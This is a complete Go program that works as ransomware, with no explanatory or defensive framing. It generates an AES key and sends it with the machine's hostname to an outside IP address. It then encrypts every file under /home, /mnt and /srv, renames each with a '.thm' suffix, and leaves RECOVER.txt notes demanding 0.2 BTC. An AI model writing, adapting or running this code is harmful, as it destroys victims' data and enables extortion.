package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/hex"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

func main() {
	key := make([]byte, 32)
	rand.Read(key)
	host, _ := os.Hostname()
	if _, err := http.Get("http://198.51.100.150/reg?h=" + host + "&k=" + hex.EncodeToString(key)); err != nil {
		return
	}
	blk, _ := aes.NewCipher(key)
	for _, root := range []string{"/home", "/mnt", "/srv"} {
		filepath.Walk(root, func(p string, i os.FileInfo, err error) error {
			if err != nil || i.IsDir() || strings.HasSuffix(p, ".thm") {
				return nil
			}
			b, err := os.ReadFile(p)
			if err != nil {
				return nil
			}
			iv := make([]byte, 16)
			rand.Read(iv)
			cipher.NewCTR(blk, iv).XORKeyStream(b, b)
			if os.WriteFile(p, append(iv, b...), 0o644) == nil {
				os.Rename(p, p+".thm")
			}
			return nil
		})
		os.WriteFile(filepath.Join(root, "RECOVER.txt"), []byte("Contact recover@example.invalid, price 0.2 BTC\n"), 0o644)
	}
}
